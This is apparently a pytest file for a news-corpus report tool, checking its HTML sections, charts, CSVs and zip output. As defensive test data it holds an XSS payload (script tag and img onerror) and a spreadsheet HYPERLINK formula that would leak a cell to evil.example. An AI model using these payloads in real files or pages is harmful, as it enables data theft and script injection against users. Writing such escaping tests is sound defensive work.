"""The batch report: every section, every file, and hostile text that stays text."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from pathlib import Path

import pytest

from analysis.corpus.loading import load_files
from analysis.corpus.workspace import Workspace
from analysis.report import document as report
from analysis.report import sections
from analysis.text import build

HOSTILE_TEXT = (
    "El ministro dijo que al menos 12 personas murieron en el ataque. "
    '<script>window.pwned = 1</script><img src=x onerror="window.pwned = 2"> '
    "Otra frase </script> con la captura del alcalde y el secuestro de 3 periodistas."
)
HOSTILE_SOURCE = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.fixture(scope="module")
def seeds_files(seeds) -> dict[str, bytes]:
    workspace = Workspace(seeds)
    return report.render(sections.build_sections(workspace, build(seeds.articles)))


@pytest.fixture(scope="module")
def hostile_files() -> dict[str, bytes]:
    corpus = load_files(
        [
            ("evil.json", json.dumps({"text": HOSTILE_TEXT, "source": HOSTILE_SOURCE, "title": "<b>x</b>"}).encode()),
            (
                "calm.txt",
                "El gobierno confirmó la captura del alcalde y la muerte de 10 personas en el ataque.".encode(),
            ),
        ]
    )
    return report.render(sections.build_sections(Workspace(corpus), build(corpus.articles)), images=False)


def test_seeds_report_has_every_section_and_file(seeds_files):
    page = seeds_files["report.html"].decode()
    sections_ = [
        ("corpus", "Corpus"),
        ("stories", "Stories"),
        ("similarity", "Similarity and shared passages"),
        ("terms", "Framing terms"),
        ("figures", "Casualty figures"),
        ("sources", "Sources"),
    ]
    for key, title in sections_:
        assert f"<section id='{key}'><h2>{title}</h2>" in page
    assert page.count("<script") == page.count("</script>")
    assert not re.search(r"<script[^>]+src=", page)  # plotly.js inlined once: opens offline
    assert page.count("Plotly.newPlot") == sum(1 for f in seeds_files if f.endswith(".png"))
    charts = {f for f in seeds_files if f.startswith("charts/")}
    assert {f.rsplit(".", 1)[0] for f in charts if f.endswith(".png")} == {
        f.rsplit(".", 1)[0] for f in charts if f.endswith(".svg")
    }
    assert all(seeds_files[f].startswith(b"\x89PNG") for f in charts if f.endswith(".png"))
    results = json.loads(seeds_files["report.json"])
    assert set(results) == {"corpus", "stories", "similarity", "terms", "figures", "sources"}
    assert {"000_bbe06687ad217e2c", "002_617b4fc88994eff6"} <= set(
        next(s for s in results["stories"]["stories"] if "001_5cc538b1288261d0" in s["articles"])["articles"]
    )
    assert "absoluto rechazo al uso de la fuerza unilateral" in {q["text"] for q in results["sources"]["shared_quotes"]}
    closest = results["similarity"]["pairs"][0]
    assert {closest["a"], closest["b"]} == {"000_bbe06687ad217e2c", "001_5cc538b1288261d0"}
    assert any("Yván Gil" in p["a_text"] for p in closest["shared_passages"])
    statuses = sorted(a["status"] for a in results["figures"]["agreement"])
    assert statuses == ["consistent", "consistent", "single-source"]


def test_hostile_text_never_becomes_markup(hostile_files):
    page = hostile_files["report.html"].decode()
    # The only script elements are plotly's: none comes from the article.
    scripts = re.findall(r"<script[^>]*>", page)
    assert all(s.startswith('<script type="text/javascript"') or s == "<script>" for s in scripts)
    assert "<script>window.pwned" not in page and "<img src=x" not in page
    assert "&lt;script&gt;window.pwned" in page or "\\u003cscript\\u003ewindow.pwned" in page
    assert page.count("<script") == page.count("</script>")


def test_hostile_label_is_neutralised_in_every_csv(hostile_files):
    found = 0
    for name, data in hostile_files.items():
        if not name.endswith(".csv"):
            continue
        for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))):
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@")) or cell.lstrip("-").replace(".", "").isdigit(), (
                    name,
                    cell,
                )
                found += HOSTILE_SOURCE in cell
    assert found  # the label is kept, as text


def test_zip_and_dir_hold_the_same_files(hostile_files, tmp_path: Path):
    with zipfile.ZipFile(io.BytesIO(report.zip_bytes(hostile_files))) as archive:
        names = {n.removeprefix("contraste-report/") for n in archive.namelist()}
    assert names == set(hostile_files)
    html = report.write_dir(hostile_files, tmp_path / "out")
    assert html.read_bytes() == hostile_files["report.html"]


def test_report_tables_are_for_readers(seeds_files):
    page = seeds_files["report.html"].decode()
    # Articles by outlet, date and first words (seeds/metadata.csv); a missing date in words.
    assert "Outlet unknown (000) · 2026-01-20 · El vocero del Kremlin" in page
    assert "Outlet unknown (001) · no date · En un momento crítico" in page
    assert "<th>first article</th>" in page and "<th>a_reused_share</th>" not in page
    assert re.search(r"<td>\d{1,3}%</td>", page)  # shares as percentages
    assert not re.search(r"<td>0\.\d{4,}</td>", page)  # no six-decimal numbers
    assert "click a" not in page.lower()  # no interactive hints in a static file
    # The CSVs keep ids and raw numbers.
    pairs = seeds_files["tables/closest-pairs.csv"].decode()
    assert "000_bbe06687ad217e2c" in pairs and "a_reused_share" in pairs


def test_report_json_leaves_out_a_large_matrix(seeds, seeds_text, settings_override):
    small = sections.similarity_section(Workspace(seeds), seeds_text).results
    assert len(small["matrix"]) == 5
    settings_override(display={"report_matrix_articles": 4})
    large = sections.similarity_section(Workspace(seeds), seeds_text).results
    assert "matrix" not in large and "5 × 5" in large["matrix_omitted"]
    assert large["pairs"] == small["pairs"]


def test_report_compares_tolls_as_the_page_does(seeds_files):
    """The figures section shows each toll's status in words and a step chart of the tolls most outlets report:
    the seeds' two January tolls (total and Cuban, both in Venezuela: "en Caracas, Miranda, Aragua y La Guaira" is
    a list of its places) each have two outlets and dates."""
    page = seeds_files["report.html"].decode()
    figures = page[page.index("<section id='figures'>") : page.index("<section id='sources'>")]
    assert "Do the tolls agree?" in figures and "The 2 outlets agree (32)" in figures and "Venezuela" in figures
    assert "revised" in figures and "outdated" in figures  # the statuses are explained in the summary
    steps = sorted(f for f in seeds_files if f.startswith("charts/casualty-toll-") and f.endswith(".png"))
    assert steps == ["charts/casualty-toll-1.png", "charts/casualty-toll-2.png"]
    assert "tables/agreement.csv" in seeds_files and "explanation" in seeds_files["tables/agreement.csv"].decode()


def test_an_image_that_cannot_be_drawn_is_named_and_the_rest_written(seeds, monkeypatch):
    # Session 26: on 528 real excerpts of ~200 outlets one chart could not be rendered by kaleido and the whole
    # `contraste report` failed after six minutes; now that image is listed and every other file written.
    drawn = report.figure_image

    def flaky(figure, fmt):
        if fmt == "svg":
            raise RuntimeError("could not render SVG (timed out)")
        return drawn(figure, fmt)

    monkeypatch.setattr(report, "figure_image", flaky)
    files = report.render(sections.build_sections(Workspace(seeds), build(seeds.articles)))
    missing = report.missing_images(files)
    assert missing and all(line.endswith(".svg: could not render SVG (timed out)") for line in missing)
    assert not any(name.endswith(".svg") for name in files)
    assert any(name.endswith(".png") for name in files) and "report.html" in files
    assert report.MISSING_IMAGES in files


def test_a_full_report_names_no_missing_image(seeds_files):
    assert report.missing_images(seeds_files) == []


def test_distinctive_panels_follow_the_sources_drawn(settings_override):
    # The report drew one panel per outlet: 200 outlets made a figure 20,000 px tall. It draws the sources the
    # framing bars draw one by one (display.chart_sources - 1, the most words), as the Framing page does.
    words = ["captura", "secuestro", "detención", "operación", "ataque", "agresión"]
    docs = [
        {"text": f"El gobierno confirmó la {words[i % 6]} del alcalde y {i} periodistas hablaron.", "source": f"S{i}"}
        for i in range(12)
    ]
    corpus = load_files([(f"{i}.json", json.dumps(doc).encode()) for i, doc in enumerate(docs)])
    settings_override(display={"chart_sources": 4})
    parts = sections.build_sections(Workspace(corpus), build(corpus.articles))
    terms = next(part for part in parts if part.key == "terms")
    chart = next(c for c in terms.charts if c.name == "distinctive-words-per-source")
    assert len({trace.xaxis for trace in chart.figure.data}) == 3  # one panel per source drawn
    assert "(3 of 12 sources, those with the most words)" in chart.figure.layout.title.text  # said, not hidden
    assert chart.data["group"].nunique() == 12  # the CSV keeps every source
